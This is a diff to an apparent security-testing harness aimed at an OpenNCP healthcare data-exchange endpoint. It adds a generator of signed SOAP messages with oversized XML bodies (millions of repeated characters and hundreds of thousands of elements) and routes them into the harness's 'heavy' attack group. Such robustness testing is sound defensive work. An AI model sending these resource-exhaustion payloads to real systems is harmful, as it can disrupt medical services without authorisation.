@@ -879,6 +879,17 @@ def tell(group, name, got, took, grown, size):
     }), flush=True)
 
 
+def unnamed(forger, pki):
+    """Long messages to the endpoint of two transactions; nothing before the message tells which of them is meant."""
+    right = forger.sign(professional(pki)[1])
+    for name, inside in [
+        ("long, of one letter", "<y>" + "R" * 8_000_000 + "</y>"),
+        ("long, of a word", "<y>" + "RetrieveDocumentSetReques" * 320_000 + "</y>"),
+        ("half a million identifiers for either transaction", "".join(f'<y id="i{n}"/>' for n in range(490_000))),
+    ]:
+        yield name, envelope(RETRIEVE[1], [right], f'<x xmlns="urn:x">{inside}</x>').encode()
+
+
 def attacks(forger, wire, pki, work):
     """By group: a function that gives names, connections to use, and the octets to send on them."""
     body = openncp.discovery(work)
@@ -940,7 +951,9 @@ def attacks(forger, wire, pki, work):
         "again": later,
         "message": lambda: (
             (name, wire, wire.request(XCPD, kind, octets)) for name, kind, octets in messages(forger, pki, work)),
-        "heavy": lambda: ((name, wire, wire.request(XCPD, soap, octets)) for name, octets in heavy(forger, pki, work)),
+        "heavy": lambda: itertools.chain(
+            ((name, wire, wire.request(XCPD, soap, octets)) for name, octets in heavy(forger, pki, work)),
+            ((name, wire, wire.request(LIST, soap, octets)) for name, octets in unnamed(forger, pki))),
         "http": lambda: ((name, wire, octets) for name, octets in requests(right())),
         "connection": shown,
         "controls": lambda: (
